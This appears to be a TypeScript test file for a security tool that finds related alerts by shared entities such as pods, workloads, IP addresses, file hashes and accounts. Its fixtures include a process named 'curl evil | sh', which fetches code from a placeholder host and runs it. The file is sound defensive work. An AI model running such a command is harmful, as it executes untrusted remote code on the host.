import type { Fact } from "../../../Client/Core/label";
import type { AlertDetails, Entity } from "../../../Client/Alerts/alert";
import { relatedAlerts } from "../../../Client/Alerts/relatedAlerts";
import { alertDetails, anAlert } from "../../Support/anAlert";

const hours = (count: number) => new Date(Date.parse("2026-11-20T10:00:00Z") + count * 3_600_000);

function entity(kind: Entity["kind"], name: string, facts: readonly Fact[] = []): Entity {
  return { kind, name, facts };
}

/** A pod with its namespace, as alerts have it. */
const pod = (namespace: string, name: string): readonly Entity[] => [
  entity("namespace", namespace),
  entity("pod", name, [{ name: "Namespace", value: namespace }]),
];

const alert = (
  name: string,
  entities: readonly Entity[],
  startTime: Date | undefined = hours(0),
): AlertDetails => alertDetails(anAlert({ name, startTime }), { entities });

const own = alert("own", [
  entity("cluster", "prod"),
  ...pod("shop", "web-7d9c5b8f6d-x2k4p"),
  entity("container", "web"),
  entity("containerImage", "contoso.azurecr.io/web:1"),
  entity("serviceAccount", "web-reader"),
  entity("serviceAccount", "default"),
  entity("account", "ada@contoso.com"),
  entity("host", "aks-apps-1"),
  entity("ip", "203.0.113.7"),
  entity("ip", " "),
  entity("process", "curl evil | sh"),
  entity("file", "curl"),
  entity("fileHash", "0a0b"),
  entity("malware", "Mirai"),
  entity("azureResource", "prod"),
  entity("other", "thing"),
]);
const sharedWith = (entities: readonly Entity[]) =>
  relatedAlerts(own, [alert("other", entities)]).flatMap(({ shared }) =>
    shared.map(({ kind, name }) => `${kind} ${name}`),
  );

test.each<[string, readonly Entity[], readonly string[]]>([
  [
    "the pod, and with it the workload",
    pod("shop", "web-7d9c5b8f6d-x2k4p"),
    ["workload shop/web", "pod shop/web-7d9c5b8f6d-x2k4p"],
  ],
  ["another pod of the workload", pod("shop", "web-7d9c5b8f6d-zz9bq"), ["workload shop/web"]],
  ["a pod of the workload's next version", pod("shop", "web-5c8d7f9b4c-b5x2z"), ["workload shop/web"]],
  ["the address", [entity("ip", "203.0.113.7")], ["ip 203.0.113.7"]],
  ["the hash", [entity("fileHash", "0A0B")], ["fileHash 0A0B"]],
  ["the account", [entity("account", "ADA@contoso.com")], ["account ADA@contoso.com"]],
  ["the service account", [entity("serviceAccount", "web-reader")], ["serviceAccount web-reader"]],
  [
    "the image",
    [entity("containerImage", "contoso.azurecr.io/web:1")],
    ["containerImage contoso.azurecr.io/web:1"],
  ],
  ["the node", [entity("host", "aks-apps-1")], ["host aks-apps-1"]],
  ["the command", [entity("process", "curl evil | sh")], ["process curl evil | sh"]],
  ["the malware", [entity("malware", "mirai")], ["malware mirai"]],
  [
    "several, each once",
    [entity("ip", "203.0.113.7"), entity("ip", "203.0.113.7"), entity("host", "aks-apps-1")],
    ["ip 203.0.113.7", "host aks-apps-1"],
  ],
  ["nothing", [], []],
  ["the workload's name in another namespace", pod("bank", "web-7d9c5b8f6d-zz9bq"), []],
  ["the cluster", [entity("cluster", "prod"), entity("azureResource", "prod")], []],
  ["the namespace", [entity("namespace", "shop")], []],
  ["the service account that every namespace has", [entity("serviceAccount", "Default")], []],
  ["the name of a container", [entity("container", "web")], []],
  ["the name of a file", [entity("file", "curl")], []],
  ["what is of no known kind", [entity("other", "thing")], []],
  ["a blank name", [entity("ip", " ")], []],
  ["the same name of another kind", [entity("host", "203.0.113.7")], []],
])("what is shared: %s", (_, entities, shared) => {
  expect(sharedWith(entities)).toEqual(shared);
});

const address = [entity("ip", "203.0.113.7")];

test("related alerts come in the order of time, those whose time is not known last", () => {
  const others = [
    alert("unknown", address, undefined),
    alert("late", address, hours(5)),
    alert("unrelated", [], hours(0)),
    alert("early", address, hours(-20)),
    alert("unknown too", address, undefined),
    alert("between", address, hours(1)),
  ].map((one) => (one.title.includes("unknown") ? { ...one, startTime: undefined } : one));
  const related = relatedAlerts(own, others);
  expect(related.map(({ alert: { title } }) => title)).toEqual(
    ["early", "between", "late", "unknown", "unknown too"].map((name) => `Alert ${name}`),
  );
  expect(others.map(({ title }) => title)[0]).toBe("Alert unknown");
});

test("an alert is not related to itself, in whatever letters its id is written", () => {
  expect(relatedAlerts(own, [own, { ...own, id: own.id.toUpperCase() }])).toEqual([]);
});

test("being related goes both ways", () => {
  const others = [alert("a", address), alert("b", pod("shop", "web-7d9c5b8f6d-zz9bq"))];
  for (const other of others) {
    expect(relatedAlerts(other, [own]).map(({ alert: { id } }) => id)).toEqual([own.id]);
  }
});
